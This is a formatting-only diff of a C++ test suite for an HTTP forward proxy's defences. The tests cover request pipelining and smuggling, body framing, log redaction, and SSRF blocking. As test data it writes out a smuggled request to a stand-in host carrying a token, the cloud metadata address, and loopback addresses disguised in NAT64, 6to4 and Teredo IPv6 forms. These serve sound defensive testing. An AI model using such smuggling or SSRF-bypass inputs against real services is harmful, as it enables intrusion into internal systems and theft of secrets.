@@ -4,13 +4,13 @@
 // CONNECT host, and no internal address hides from the SSRF checks.
 #include <arpa/inet.h>
 #include <gtest/gtest.h>
-#include <nlohmann/json.hpp>
 #include <netinet/in.h>
 #include <netinet/tcp.h>
 #include <sys/socket.h>
 #include <unistd.h>
 
 #include <fstream>
+#include <nlohmann/json.hpp>
 #include <thread>
 
 #include "pipelock_harness.hpp"
@@ -121,8 +121,7 @@ TEST(PipelockEveryByte, EveryRequestShapeArrivingOneByteAtATimeIsServed) {
   const std::string get = "GET http://allowed.test:" + u +
                           "/index.html HTTP/1.1\r\nHost: allowed.test\r\nAccept: */*\r\n\r\n";
   EXPECT_NE(send_in_pieces(p.port(), bytes_of(get)).find("hello-upstream"), std::string::npos);
-  const std::string tunnel = "CONNECT allowed.test:" + u +
-                             " HTTP/1.1\r\nHost: allowed.test:" + u +
+  const std::string tunnel = "CONNECT allowed.test:" + u + " HTTP/1.1\r\nHost: allowed.test:" + u +
                              "\r\n\r\nGET /index.html HTTP/1.0\r\n\r\n";
   EXPECT_NE(send_in_pieces(p.port(), bytes_of(tunnel)).find("hello-upstream"), std::string::npos);
   const std::string post = "POST http://allowed.test:" + r +
@@ -153,13 +152,15 @@ TEST(PipelockEveryByte, APipelinedSecondRequestNeverReachesTheUpstream) {
   HelperUpstream rec({"recording", "log.jsonl"});
   Pipelock p(config({rec.port(), 80}));
   const std::string r = std::to_string(rec.port());
-  const std::string second = "GET http://evil.test/secret?token=s3cr3t HTTP/1.1\r\nHost: evil.test\r\n\r\n";
+  const std::string second =
+      "GET http://evil.test/secret?token=s3cr3t HTTP/1.1\r\nHost: evil.test\r\n\r\n";
   for (const std::string& first :
        {"GET http://allowed.test:" + r + "/first HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
         "POST http://allowed.test:" + r +
             "/first HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\n\r\n",
         "POST http://allowed.test:" + r +
-            "/first HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"}) {
+            "/first HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: "
+            "chunked\r\n\r\n0\r\n\r\n"}) {
     const std::string reply = send_in_pieces(p.port(), {first + second});
     EXPECT_NE(reply.find("recorded"), std::string::npos) << reply;
   }
@@ -179,11 +180,13 @@ TEST(PipelockEveryByte, ARequestBodyIsForwardedWithExactlyItsFraming) {
   HelperUpstream rec({"recording", "log.jsonl"});
   Pipelock p(config({rec.port()}));
   const std::string r = std::to_string(rec.port());
-  send_in_pieces(p.port(), {"POST http://allowed.test:" + r +
-                            "/a HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\n\r\nhelloEXTRA"});
-  send_in_pieces(p.port(), {"POST http://allowed.test:" + r +
-                                "/b HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n",
-                            "5;ext=x\r\nhel", "lo\r\n", "0\r\nTrailer-X: t\r\n\r\nEXTRA"});
+  send_in_pieces(p.port(),
+                 {"POST http://allowed.test:" + r +
+                  "/a HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\n\r\nhelloEXTRA"});
+  send_in_pieces(p.port(),
+                 {"POST http://allowed.test:" + r +
+                      "/b HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n",
+                  "5;ext=x\r\nhel", "lo\r\n", "0\r\nTrailer-X: t\r\n\r\nEXTRA"});
   const auto seen = recorded(rec, 2);
   ASSERT_EQ(seen.size(), 2u);
   for (const auto& bytes : seen) EXPECT_EQ(bytes.find("EXTRA"), std::string::npos) << bytes;
@@ -227,9 +230,9 @@ TEST(PipelockEveryByte, AHeadEndedByTheClientGetsTheSameAnswerHoweverItWasCut) {
   Upstream up;
   Pipelock p(config({up.port()}));
   const std::string target = "allowed.test:" + std::to_string(up.port());
-  for (const std::string& head : {"CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\nH\r\n",
-                                 "GET http://" + target + "/ HTTP/1.1\r\nHost: a\r\n",
-                                 std::string("GET http://")}) {
+  for (const std::string& head :
+       {"CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\nH\r\n",
+        "GET http://" + target + "/ HTTP/1.1\r\nHost: a\r\n", std::string("GET http://")}) {
     const std::string whole = send_in_pieces(p.port(), {head}, true);
     const std::string cut = send_in_pieces(p.port(), bytes_of(head), true);
     EXPECT_EQ(whole.rfind("HTTP/1.1 400 ", 0), 0u) << head << "\n" << whole;
@@ -239,9 +242,10 @@ TEST(PipelockEveryByte, AHeadEndedByTheClientGetsTheSameAnswerHoweverItWasCut) {
 
 TEST(PipelockSsrf, AnEmptyInternalListKeepsTheFloor) {
   Upstream up;
-  Pipelock p("mode: balanced\nfetch_proxy: {listen: '127.0.0.1:0'}\ninternal: []\n"
-             "forward_proxy: {enabled: true, allowed_ports: [80, " +
-             std::to_string(up.port()) + "]}\n");
+  Pipelock p(
+      "mode: balanced\nfetch_proxy: {listen: '127.0.0.1:0'}\ninternal: []\n"
+      "forward_proxy: {enabled: true, allowed_ports: [80, " +
+      std::to_string(up.port()) + "]}\n");
   for (const std::string& url :
        {"http://127.0.0.1:" + std::to_string(up.port()) + "/index.html",
         std::string("http://169.254.169.254/latest/meta-data/"),
@@ -254,8 +258,9 @@ TEST(PipelockSsrf, AnEmptyInternalListKeepsTheFloor) {
 }
 
 TEST(PipelockSsrf, Ipv4HiddenInIpv6IsJudgedByTheIpv4Inside) {
-  Pipelock p("mode: balanced\nfetch_proxy: {listen: '127.0.0.1:0'}\n"
-             "forward_proxy: {enabled: true, allowed_ports: [80]}\n");
+  Pipelock p(
+      "mode: balanced\nfetch_proxy: {listen: '127.0.0.1:0'}\n"
+      "forward_proxy: {enabled: true, allowed_ports: [80]}\n");
   // 127.0.0.1 and 10.0.0.1 behind NAT64, 6to4, Teredo and the compatible form.
   for (const char* host : {"[64:ff9b::7f00:1]", "[64:ff9b::a00:1]", "[64:ff9b:1:7f00:0:1::]",
                            "[2002:7f00:1::1]", "[2001:0:a00:1::ffff:fffe]",
@@ -268,15 +273,16 @@ TEST(PipelockSsrf, Ipv4HiddenInIpv6IsJudgedByTheIpv4Inside) {
 }
 
 TEST(PipelockMessages, Ipv6AddressesAreBracketedAndRefusedTargetsAreRedactedInTheLog) {
-  Pipelock p("mode: balanced\nfetch_proxy: {listen: '127.0.0.1:0'}\n"
-             "forward_proxy: {enabled: true, allowed_ports: [9]}\n"
-             "ssrf: {ip_allowlist: ['100::/64']}\n");
+  Pipelock p(
+      "mode: balanced\nfetch_proxy: {listen: '127.0.0.1:0'}\n"
+      "forward_proxy: {enabled: true, allowed_ports: [9]}\n"
+      "ssrf: {ip_allowlist: ['100::/64']}\n");
   // The discard prefix routes nowhere: the dial fails, and says where it went.
   const std::string reply =
       send_in_pieces(p.port(), {"CONNECT [100::1]:9 HTTP/1.1\r\nHost: x\r\n\r\n"});
   EXPECT_NE(reply.find("cannot connect to [100::1]:9"), std::string::npos) << reply;
-  const std::string bad =
-      send_in_pieces(p.port(), {"GET http://h:99999/x?token=s3cr3t&a=1 HTTP/1.1\r\nHost: h\r\n\r\n"});
+  const std::string bad = send_in_pieces(
+      p.port(), {"GET http://h:99999/x?token=s3cr3t&a=1 HTTP/1.1\r\nHost: h\r\n\r\n"});
   EXPECT_EQ(bad.rfind("HTTP/1.1 400", 0), 0u) << bad;
   const std::string log = decisions(p, 2);
   EXPECT_EQ(log.find("s3cr3t"), std::string::npos) << log;
